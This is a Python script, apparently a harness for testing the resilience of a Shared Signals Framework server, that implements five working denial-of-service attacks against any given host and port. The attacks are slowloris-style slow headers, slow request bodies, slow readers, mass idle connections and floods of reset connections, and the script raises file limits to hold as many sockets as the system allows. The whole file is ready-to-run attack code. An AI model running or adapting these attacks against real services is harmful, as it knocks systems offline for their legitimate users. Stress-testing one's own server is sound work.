"""One attack on a listener, until it is killed: `attacker.py ATTACK HOST PORT CONNECTIONS`."""

import resource
import socket
import struct
import sys
import time
from collections.abc import Callable

# Between two resets, in seconds.
PAUSE = 0.0002
# The connection ends with RST instead of FIN.
RESET = struct.pack("ii", 1, 0)
HEAD = b"POST /ssf/stream HTTP/1.1\r\nHost: localhost\r\n"


class Attack:
    """Where to, with how many connections."""

    def __init__(self, host: str, port: str, connections: str):
        self._address = host, int(port)
        self._connections = int(connections)

    def slow_headers(self) -> None:
        """A byte of a header that never ends, on each connection in turn."""
        self._hold(HEAD + b"X-Slow: ", lambda connection: connection.send(b"x"))

    def slow_bodies(self) -> None:
        """The same of a body."""
        self._hold(
            HEAD + b"Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n",
            lambda connection: connection.send(b" "))

    def slow_readers(self) -> None:
        """Requests for more than fits into any buffer, of which a byte is read now and then."""
        request = b"GET /.well-known/ssf-configuration HTTP/1.1\r\nHost: localhost\r\n\r\n"
        self._hold(100 * request, lambda connection: connection.recv(1))

    def idle_connections(self) -> None:
        self._hold(b"", lambda _: None)

    def resets(self) -> None:
        """Connections that are reset as soon as they are there, some thousands a second."""
        self._announce()
        while True:
            with self._connect() as connection:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
            time.sleep(PAUSE)

    def _hold(self, first: bytes, later: Callable[[socket.socket], object]) -> None:
        """Keeps as many connections open as it may, and puts another in the place of each that was closed."""
        held = [self._begin(first) for _ in range(self._connections)]
        self._announce()
        while True:
            for index, connection in enumerate(held):
                # Each has its turn about once a second.
                time.sleep(1 / len(held))
                try:
                    later(connection)
                except BlockingIOError:
                    pass  # nothing has come, or nothing is taken any more
                except OSError:
                    connection.close()
                    held[index] = self._begin(first)

    def _begin(self, first: bytes) -> socket.socket:
        connection = self._connect()
        connection.sendall(first)
        connection.setblocking(False)
        return connection

    def _connect(self) -> socket.socket:
        connection = socket.socket()
        # As little as the system lets it be: what waits here, and, by the size of a segment, over there.
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 536)
        connection.settimeout(10)
        connection.connect(self._address)
        return connection

    @staticmethod
    def _announce() -> None:
        print("under way", flush=True)


ATTACKS: dict[str, Callable[[Attack], None]] = {
    "slow headers": Attack.slow_headers, "slow bodies": Attack.slow_bodies, "slow readers": Attack.slow_readers,
    "idle connections": Attack.idle_connections, "resets": Attack.resets,
}


if __name__ == "__main__":
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    name, *target = sys.argv[1:]
    ATTACKS[name](Attack(*target))
